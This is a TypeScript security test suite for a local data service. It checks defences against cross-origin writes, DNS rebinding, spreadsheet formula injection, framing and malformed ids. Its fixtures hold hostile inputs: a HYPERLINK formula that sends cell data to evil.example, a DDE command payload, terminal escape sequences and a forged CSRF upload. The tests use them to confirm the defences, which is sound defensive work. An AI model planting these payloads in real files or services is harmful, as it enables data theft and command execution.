// Issue 19's web items against the real service process: requests a browser marks as coming from
// another origin cannot change anything (CSRF), Host names other than loopback's are not answered
// while bound to loopback (DNS rebinding), /data.csv is safe to open in a spreadsheet (with the
// exact values behind ?raw=1), /docs cannot be framed, and two small ones (an id's message quotes
// what was sent; two Authorization headers are not "missing"). Chromium drives the same attacks in
// test/browser/attacks.test.ts. Requests go through node:http so the test sets Host and Origin itself.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { parse } from 'csv-parse/sync';
import type { DbHandle } from '../../src/db/connect.js';
import { dataDir, removeDir, testDatabase } from '../helpers.js';
import { startService, startServiceToFail, stopService, type Service } from '../service.js';

let database: DbHandle;
let dir: string;
let service: Service;

// Text cells a spreadsheet would run as formulas (OWASP's list), a negative-looking one, control
// characters (ESC drives a terminal; U+009B is the one-byte CSI), and plain ones that must not change.
const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(A1)',
  minus: '-2+3',
  tab: '\tTAB',
  cr: '\rCR first',
  esc: 'red \x1b[31mtext\x1b[0m and \u009b2J',
};
const USERS = [
  'user_id,name,email,signup_date',
  `1,Alice,alice@example.org,2023-01-01`,
  `2,"${HOSTILE.hyperlink.replaceAll('"', '""')}",h@example.org,2023-01-01`,
  `3,${HOSTILE.dde},@evil.example,2023-01-01`,
  `4,${HOSTILE.at},a@example.org,2023-01-01`,
  `5,${HOSTILE.minus},m@example.org,2023-01-01`,
  `6,"${HOSTILE.tab}",t@example.org,2023-01-01`,
  `7,"${HOSTILE.cr}",c@example.org,2023-01-01`,
  `8,${HOSTILE.esc},e@example.org,2023-01-01`,
  `9,"Doe, Jane = fine",j@example.org,2023-01-01`,
].join('\r\n');
const COMPOUNDS = ['compound_id,compound_name,compound_structure', '1,=1+1,C', '2,Aspirin,C9H8O4'].join('\r\n');
const EXPERIMENTS = ['experiment_id,user_id,experiment_compound_ids,experiment_run_time', '1,1,2,10', '2,3,1,5'].join('\r\n');

before(async () => {
  database = await testDatabase();
  dir = await dataDir({ users: USERS, compounds: COMPOUNDS, experiments: EXPERIMENTS });
  service = await startService({ DATABASE_URL: database.url, DATA_DIR: dir }, { timeoutMs: 60_000 });
  assert.equal((await request(service, 'POST', '/data')).status, 200);
});
after(async () => {
  if (service) assert.equal((await stopService(service)).code, 0, service.output());
  await database?.close();
  if (dir) await removeDir(dir);
});

interface Answer {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** One request with exactly these headers (node:http sends Host: 127.0.0.1:PORT unless `host` is given). */
function request(
  target: Service,
  method: string,
  path: string,
  headers: Record<string, string | string[]> = {},
  body?: string,
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: target.port, method, path, headers, agent: false }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: text }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(body);
  });
}

const error = (answer: Answer) => (JSON.parse(answer.body) as { error: string }).error;
const runCount = async (target: Service) => (JSON.parse((await request(target, 'GET', '/runs')).body) as { runs: unknown[] }).runs.length;
const userName = async (target: Service, id: number) =>
  (JSON.parse((await request(target, 'GET', `/data/users/${id}`)).body) as { name: string }).name;

/** A multipart body replacing user 1's name, as the attack page of the issue sent it. */
function attackForm(): { headers: Record<string, string>; body: string } {
  const boundary = 'attack';
  const parts = {
    users: 'user_id,name,email,signup_date\n1,PWNED via CSRF,x@example.org,2023-01-01\n',
    user_experiments: 'experiment_id,user_id,experiment_compound_ids,experiment_run_time\n1,1,1,1\n',
    compounds: 'compound_id,compound_name,compound_structure\n1,A,C\n',
  };
  const body =
    Object.entries(parts)
      .map(
        ([name, text]) =>
          `--${boundary}\r\nContent-Disposition: form-data; name="${name}"; filename="${name}.csv"\r\nContent-Type: text/csv\r\n\r\n${text}\r\n`,
      )
      .join('') + `--${boundary}--\r\n`;
  return { headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body };
}

test('POST /data from a page on another origin: 403 naming ALLOWED_ORIGINS, body unread, nothing run or published', async () => {
  const runs = await runCount(service);
  const own = `http://127.0.0.1:${service.port}`;
  const { headers: form, body } = attackForm();
  for (const [label, headers] of [
    ['another port of 127.0.0.1', { origin: 'http://127.0.0.1:9', 'sec-fetch-site': 'same-site' }],
    ['another site', { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site' }],
    ['a file:// page (Origin: null)', { origin: 'null', 'sec-fetch-site': 'cross-site' }],
    ['localhost vs 127.0.0.1 (another origin)', { origin: `http://localhost:${service.port}` }],
    ['Sec-Fetch-Site alone', { 'sec-fetch-site': 'cross-site' }],
    ['same-site alone', { 'sec-fetch-site': 'same-site' }],
    ['own origin but the browser says cross-site', { origin: own, 'sec-fetch-site': 'cross-site' }],
  ] as const) {
    for (const upload of [false, true]) {
      const answer = await request(service, 'POST', '/data', { ...headers, ...(upload ? form : {}) }, upload ? body : undefined);
      assert.equal(answer.status, 403, `${label}, upload: ${upload}`);
      assert.match(
        error(answer),
        /^refused: a web page on another origin \(.+\) may not change anything here; .* add its origin to ALLOWED_ORIGINS$/,
        label,
      );
      assert.equal(answer.headers.connection, 'close', label);
    }
  }
  // The 405 of another path is no way round it either.
  assert.equal((await request(service, 'DELETE', '/data', { origin: 'http://evil.example' })).status, 403);
  assert.equal(await runCount(service), runs, 'no run was started');
  assert.equal(await userName(service, 1), 'Alice', 'the published features are unchanged');
  assert.match(service.output(), /POST \/data 403/, 'each refusal is logged');
});

test("POST /data from the service's own pages and from clients that are not browsers works as before", async () => {
  const runs = await runCount(service);
  for (const [label, headers] of [
    ['curl (no Origin, no Sec-Fetch-Site)', {}],
    ['the dashboard at 127.0.0.1', { origin: `http://127.0.0.1:${service.port}`, 'sec-fetch-site': 'same-origin' }],
    [
      'the dashboard at localhost',
      { host: `localhost:${service.port}`, origin: `http://localhost:${service.port}`, 'sec-fetch-site': 'same-origin' },
    ],
    ['the dashboard at [::1]', { host: `[::1]:${service.port}`, origin: `http://[::1]:${service.port}`, 'sec-fetch-site': 'same-origin' }],
    ['a typed URL (Sec-Fetch-Site: none)', { 'sec-fetch-site': 'none' }],
  ] as const) {
    const answer = await request(service, 'POST', '/data', headers);
    assert.equal(answer.status, 200, `${label}: ${answer.body}`);
  }
  assert.equal(await runCount(service), runs + 5);
  // Reads from another origin are not state changes: a browser keeps their answers from the page.
  assert.equal((await request(service, 'GET', '/data', { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site' })).status, 200);
});

test("a Host that is not loopback's is refused on every route while bound to 127.0.0.1 (DNS rebinding)", async () => {
  const runs = await runCount(service);
  for (const host of [
    'attacker.example',
    `attacker.example:${service.port}`,
    'localhost.attacker.example',
    '127.0.0.1.nip.io',
    'localhost.',
  ]) {
    for (const [method, path] of [
      ['GET', '/data'],
      ['GET', '/data/users/1'],
      ['GET', '/health'],
      ['GET', '/'],
      ['GET', '/nope'],
      ['POST', '/data'],
    ] as const) {
      const answer = await request(service, method, path, { host });
      assert.equal(answer.status, 403, `${method} ${path} with Host ${host}`);
      assert.equal(
        error(answer),
        `this service does not answer requests for the host "${host}": add its name to ALLOWED_HOSTS to allow it`,
      );
      assert.doesNotMatch(answer.body, /Alice|alice@/);
    }
  }
  assert.equal(await runCount(service), runs);
  for (const host of [
    'localhost',
    `localhost:${service.port}`,
    `LOCALHOST:${service.port}`,
    `127.0.0.1:${service.port}`,
    `[::1]:${service.port}`,
    '127.0.0.1:1',
  ]) {
    assert.equal((await request(service, 'GET', '/data/users/1', { host })).status, 200, host);
  }
});

test('ALLOWED_HOSTS and ALLOWED_ORIGINS: a dashboard served elsewhere may run the ETL; HOST=0.0.0.0 checks no Host; bad values stop start-up', async () => {
  const dashboard = 'https://dash.example.org';
  const allowed = await startService(
    {
      DATABASE_URL: database.url,
      DATA_DIR: dir,
      ALLOWED_HOSTS: 'etl.example.org, 192.168.1.20',
      ALLOWED_ORIGINS: `${dashboard},http://localhost:3000`,
    },
    { timeoutMs: 60_000 },
  );
  try {
    assert.equal((await request(allowed, 'GET', '/data/users/1', { host: 'etl.example.org:8080' })).status, 200);
    assert.equal((await request(allowed, 'GET', '/data/users/1', { host: '192.168.1.20' })).status, 200);
    assert.equal((await request(allowed, 'GET', '/data/users/1', { host: 'other.example.org' })).status, 403);
    const posted = await request(allowed, 'POST', '/data', { host: 'etl.example.org', origin: dashboard, 'sec-fetch-site': 'cross-site' });
    assert.equal(posted.status, 200, posted.body);
    assert.equal((await request(allowed, 'POST', '/data', { origin: 'http://localhost:3000', 'sec-fetch-site': 'same-site' })).status, 200);
    assert.equal(
      (await request(allowed, 'POST', '/data', { origin: 'https://evil.example.org', 'sec-fetch-site': 'cross-site' })).status,
      403,
    );
  } finally {
    assert.equal((await stopService(allowed)).code, 0);
  }

  // On every interface the names the service is reached by are not known: no Host check (the
  // README says so), but the Origin check stays.
  const open = await startService({ DATABASE_URL: database.url, DATA_DIR: dir, HOST: '0.0.0.0' }, { timeoutMs: 60_000 });
  try {
    assert.equal((await request(open, 'GET', '/data/users/1', { host: 'etl.internal:8080' })).status, 200);
    assert.equal(
      (
        await request(open, 'POST', '/data', {
          host: 'etl.internal:8080',
          origin: 'http://etl.internal:8080',
          'sec-fetch-site': 'same-origin',
        })
      ).status,
      200,
    );
    assert.equal((await request(open, 'POST', '/data', { host: 'etl.internal:8080', origin: 'http://evil.example' })).status, 403);
  } finally {
    assert.equal((await stopService(open)).code, 0);
  }

  for (const [name, value, message] of [
    [
      'ALLOWED_ORIGINS',
      'https://dash.example.org/app',
      /^start-up failed: ALLOWED_ORIGINS must be a comma-separated list of origins such as .* got "https:\/\/dash\.example\.org\/app"$/,
    ],
    [
      'ALLOWED_HOSTS',
      'http://etl.example.org',
      /^start-up failed: ALLOWED_HOSTS must be a comma-separated list of host names such as .* got "http:\/\/etl\.example\.org"$/,
    ],
  ] as const) {
    // A bad setting is one log line and exit code 1 (src/startup.ts), like every start-up failure.
    const failed = await startServiceToFail({ DATABASE_URL: database.url, DATA_DIR: dir, [name]: value });
    assert.equal(failed.code, 1, failed.output);
    const lines = failed.output
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { level: string; msg: string });
    assert.deepEqual(
      lines.map((l) => l.level),
      ['error'],
      failed.output,
    );
    assert.match(lines[0]!.msg, message);
  }
});

test('/data.csv is safe to open in a spreadsheet; ?raw=1 has the exact values of GET /data', async () => {
  const users = (JSON.parse((await request(service, 'GET', '/data')).body) as { users: Record<string, unknown>[] }).users;
  assert.equal(users.length, 9);
  const csv = await request(service, 'GET', '/data.csv');
  assert.equal(csv.status, 200);
  const safe = parse(csv.body, { columns: true }) as Record<string, string>[];
  const byId = new Map(safe.map((r) => [Number(r.user_id), r]));
  assert.equal(byId.get(2)!.name, `'${HOSTILE.hyperlink}`);
  assert.equal(byId.get(3)!.name, `'${HOSTILE.dde}`);
  assert.equal(byId.get(3)!.email, "'@evil.example");
  assert.equal(byId.get(3)!.top_compound_name, "'=1+1");
  assert.equal(byId.get(4)!.name, `'${HOSTILE.at}`);
  assert.equal(byId.get(5)!.name, `'${HOSTILE.minus}`);
  assert.equal(byId.get(6)!.name, `'${HOSTILE.tab}`);
  assert.equal(byId.get(7)!.name, `'${HOSTILE.cr}`);
  assert.equal(byId.get(8)!.name, 'red \ufffd[31mtext\ufffd[0m and \ufffd2J', 'control characters are shown as U+FFFD');
  assert.equal(byId.get(1)!.name, 'Alice');
  assert.equal(byId.get(9)!.name, 'Doe, Jane = fine', 'a formula sign inside a value is harmless and kept');
  assert.doesNotMatch(csv.body, /[\x1b\x7f-\x9f]/, 'no raw control character in the download');
  for (const record of safe) {
    for (const column of ['name', 'email', 'top_compound_name'])
      assert.doesNotMatch(record[column]!, /^[=+\-@\t\r]/, `${record.user_id} ${column}`);
  }

  // The exact values, for programs: the JSON answer's, byte for byte; also through Accept: text/csv.
  for (const [path, headers] of [
    ['/data.csv?raw=1', {}],
    ['/data?raw=1', { accept: 'text/csv' }],
  ] as const) {
    const raw = await request(service, 'GET', path, headers);
    assert.equal(raw.status, 200, path);
    const exact = parse(raw.body, { columns: true }) as Record<string, string>[];
    assert.deepEqual(
      exact.map((r) => [Number(r.user_id), r.name, r.email]),
      users.map((u) => [u.user_id, u.name, u.email]),
      path,
    );
    assert.ok(raw.body.includes(HOSTILE.esc), 'control characters kept in raw');
  }
  assert.equal((await request(service, 'GET', '/data.csv?raw=0')).body, csv.body);
  const bad = await request(service, 'GET', '/data.csv?raw=yes');
  assert.equal(bad.status, 400);
  assert.equal(error(bad), 'raw must be 1 (the exact values) or 0 (spreadsheet-safe), got "yes"');
});

test('/docs has a Content-Security-Policy and cannot be framed', async () => {
  const docs = await request(service, 'GET', '/docs');
  assert.equal(docs.status, 200);
  const csp = String(docs.headers['content-security-policy']);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /script-src 'self' 'sha256-[A-Za-z0-9+/]+=*'(;|$)/, 'its one inline script by hash, no unsafe-inline');
  assert.equal(docs.headers['x-frame-options'], 'SAMEORIGIN');
  assert.equal(docs.headers['x-content-type-options'], 'nosniff');
});

test('an id past 2^53 - 1 is refused quoting the digits sent, not their rounded value', async () => {
  for (const [path, message] of [
    ['/data/users/9007199254740993', '"9007199254740993" is not a valid id (a positive integer)'],
    ['/runs/9007199254740992', '"9007199254740992" is not a valid id (a positive integer)'],
    ['/data?after=9007199254740993', 'after must be an integer from 0 to 9007199254740991, got "9007199254740993"'],
  ] as const) {
    const answer = await request(service, 'GET', path);
    assert.equal(answer.status, 400, path);
    assert.equal(error(answer), message);
  }
  assert.equal((await request(service, 'GET', '/data/users/9007199254740991')).status, 404, 'the largest id is valid');
});

test('two Authorization headers are refused as such, not as a missing token', async () => {
  const token = 'sec-token-0123456789';
  const secured = await startService({ DATABASE_URL: database.url, DATA_DIR: dir, API_TOKEN: token }, { timeoutMs: 60_000 });
  try {
    const twice = await request(secured, 'POST', '/data', { authorization: [`Bearer ${token}`, `Bearer ${token}`] });
    assert.equal(twice.status, 401);
    assert.equal(error(twice), 'more than one Authorization header, or not a Bearer token: send Authorization: Bearer <API_TOKEN>');
    assert.equal(error(await request(secured, 'POST', '/data')), 'missing token: send Authorization: Bearer <API_TOKEN>');
    assert.equal((await request(secured, 'POST', '/data', { authorization: `Bearer ${token}` })).status, 200);
  } finally {
    assert.equal((await stopService(secured)).code, 0);
  }
});
